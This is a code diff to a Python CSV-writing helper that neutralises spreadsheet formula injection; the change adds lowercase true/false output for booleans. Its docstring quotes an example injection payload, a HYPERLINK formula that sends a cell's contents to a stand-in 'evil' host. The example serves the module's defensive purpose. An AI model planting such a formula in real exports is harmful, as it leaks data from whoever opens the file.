@@ -5,7 +5,7 @@ Excel, LibreOffice and Google Sheets (CSV injection): a team named
 `=HYPERLINK("http://evil"&A1,"Click")` would run on the organizer's machine. Such a cell is
 written with a leading apostrophe, which spreadsheets show as text and which a reader can
 strip. Numbers stay numbers: a float, an int or a string that is a plain decimal number
-(`-0.25`, `+3`, `1e-05`) is written as it is.
+(`-0.25`, `+3`, `1e-05`) is written as it is; booleans are written true/false.
 
     writer = csv_safe.writer(file)        # csv.writer's writerow / writerows, made safe
     csv_safe.write_rows(file, rows)       # the same in one call
@@ -28,8 +28,11 @@ _NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
 
 
 def safe_cell(value: Any) -> Any:
-    """The value as a CSV cell that no spreadsheet runs as a formula."""
-    if value is None or isinstance(value, bool | int | float | Decimal):
+    """The value as a CSV cell that no spreadsheet runs as a formula (booleans written
+    true/false, as other CSV readers expect them, not Python's True/False)."""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if value is None or isinstance(value, int | float | Decimal):
         return value
     text = str(value)
     if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
